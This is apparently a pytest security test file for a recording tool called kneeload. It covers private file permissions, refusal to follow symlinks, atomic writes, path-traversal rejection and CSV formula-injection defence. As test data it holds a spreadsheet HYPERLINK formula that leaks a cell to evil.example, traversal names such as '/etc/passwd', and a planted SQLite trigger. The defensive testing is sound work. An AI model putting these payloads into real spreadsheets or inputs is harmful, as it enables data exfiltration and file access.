"""A shared machine: who can read what is written, and where links and names may lead."""

import os
import sqlite3
import stat
import subprocess
from contextlib import closing
from pathlib import Path

import pytest

from kneeload.errors import JournalError
from kneeload.export import export_run
from kneeload.failures import UsageError
from kneeload.listing import list_runs, resolve_run
from kneeload.private import UnwritableError, private_file
from kneeload.review.page import write_review
from tests.kneeload.program import PROGRAM, environment
from tests.room import no_sync
from tests.simulated_run import RUN, record_run, recorded_run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return recorded_run(tmp_path_factory.getbasetemp())


def openly(arguments: list[str | Path], *, home: Path) -> None:
    """Runs with a umask that lets everybody do everything."""
    done = subprocess.run(
        [str(PROGRAM), *map(str, arguments)],
        env=environment(home),
        cwd=home,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        umask=0,
    )
    assert done.returncode == 0, done.stderr


def open_to_others(folder: Path) -> list[str]:
    """What the group or others may do anything with."""
    return [
        f"{path.relative_to(folder)} {stat.S_IMODE(path.stat().st_mode):o}"
        for path in (folder, *folder.rglob("*"))
        if path.stat().st_mode & (stat.S_IRWXG | stat.S_IRWXO)
    ]


def test_nobody_else_can_read_a_run_whatever_the_umask(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    data = home / "data"
    openly(["demo", "--duration", "6", "--speedup", "5", "--data-dir", data, "--json"], home=home)
    assert list(data.rglob("packets.mcap"))
    assert open_to_others(data) == []
    for path in ("page.html", "export/strides-left-shin.csv", "analysis/summary.json"):
        assert not (home / path).exists()
    openly(["review", "last", "--data-dir", data, "--output", home / "page.html"], home=home)
    openly(["export", "last", "--data-dir", data, "--output", home / "export", "--raw"], home=home)
    packets = next(data.rglob("packets.mcap"))
    openly(["analyze", packets, "--output", home / "analysis"], home=home)
    assert stat.S_IMODE((home / "page.html").stat().st_mode) == 0o600
    for folder in ("export", "analysis"):
        assert any((home / folder).rglob("*.csv"))
        assert open_to_others(home / folder) == []


def test_a_link_where_a_result_goes_is_not_followed(data_dir: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    export = tmp_path / "export"
    export.mkdir()
    (tmp_path / "page.html").symlink_to(victim)
    (export / "alerts.csv").symlink_to(victim)
    with pytest.raises(UnwritableError, match="it is a link"):
        write_review(data_dir, RUN, tmp_path / "page.html")
    with pytest.raises(UnwritableError, match="it is a link"):
        export_run(data_dir, RUN, export)
    assert victim.read_text() == "precious"
    # A hard link or a file of somebody else is replaced, not written into.
    os.link(victim, tmp_path / "other.html")
    with private_file(tmp_path / "other.html") as draft:
        draft.write_text("page")
    assert (victim.read_text(), (tmp_path / "other.html").read_text()) == ("precious", "page")


def test_what_fails_half_way_leaves_nothing(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text("before")

    def fail() -> None:
        with private_file(path) as draft:
            draft.write_text("half")
            raise RuntimeError

    with pytest.raises(RuntimeError):
        fail()
    assert [p.name for p in tmp_path.iterdir()] == ["page.html"]
    assert path.read_text() == "before"
    for place in (tmp_path, tmp_path / "nowhere" / "page.html"):
        with pytest.raises(UnwritableError), private_file(place):
            pass


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc to see what is synced")
def test_a_power_cut_leaves_the_file_of_before_or_all_of_the_new_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A new name may be on disk before what is in the file, which is empty then."""
    done: list[tuple[str, str]] = []
    fsync, replace = os.fsync, os.replace

    def synced(file: int) -> None:
        fsync(file)
        what = Path(os.readlink(f"/proc/self/fd/{file}"))
        done.append(("sync", "folder" if what.is_dir() else what.read_text()))

    def moved(source: Path, target: Path) -> None:
        replace(source, target)
        done.append(("move", target.name))

    monkeypatch.setattr(os, "fsync", synced)
    monkeypatch.setattr(os, "replace", moved)
    with private_file(tmp_path / "page.html") as draft:
        draft.write_text("page")
    assert done == [("sync", "page"), ("move", "page.html"), ("sync", "folder")]
    with (
        no_sync(),
        pytest.raises(UnwritableError, match="Input/output"),
        private_file(tmp_path / "b") as draft,
    ):
        draft.write_text("page")
    assert [path.name for path in tmp_path.iterdir()] == ["page.html"]


@pytest.mark.parametrize("name", ["../../etc", "/etc/passwd", "..", f"{RUN}/../../x", "\x1b[2J", ""])
def test_a_run_is_named_and_never_a_way(name: str, data_dir: Path) -> None:
    with pytest.raises(UsageError, match="no run ") as refused:
        resolve_run(name, data_dir)
    assert str(refused.value).isprintable()


def forge(data_dir: Path, statement: str, *values: object) -> None:
    with closing(sqlite3.connect(data_dir / "journal.db")) as connection, connection:
        connection.execute("DROP TRIGGER IF EXISTS result_is_never_changed")
        trigger = (
            "CREATE TRIGGER result_is_never_changed BEFORE UPDATE ON result\n"
            "            BEGIN SELECT RAISE (ABORT, 'results are append-only'); END"
        )
        connection.execute(statement, values)
        connection.execute(trigger)


def test_a_forged_journal_leads_nowhere_and_calculates_nothing(tmp_path: Path) -> None:
    data = tmp_path / "data"
    record_run(data, duration_s=45.0)
    forge(data, "UPDATE result SET body = json_set(body, '$.filter', ?) WHERE stream = 'stride'", FORMULA)
    written = export_run(data, RUN, tmp_path / "export").files
    cells = [
        cell
        for path in written
        for line in path.read_text().splitlines()
        for cell in line.replace('"', "").split(",")
    ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    forge(data, "PRAGMA foreign_keys = OFF")
    forge(data, "UPDATE run SET run = '../../away'")
    with pytest.raises(JournalError, match="no run is called"):
        resolve_run("../../away", data)
    with pytest.raises(JournalError, match="no run is called"):
        list_runs(data, console=None)
    assert not (tmp_path.parent / "away").exists()


def test_a_journal_with_a_strangers_trigger_is_refused(tmp_path: Path) -> None:
    data = tmp_path / "data"
    record_run(data, duration_s=1.0)
    with closing(sqlite3.connect(data / "journal.db")) as connection, connection:
        connection.execute("CREATE TRIGGER t AFTER INSERT ON result BEGIN DELETE FROM run; END")
    with pytest.raises(JournalError, match="its tables are not ours"):
        list_runs(data, console=None)
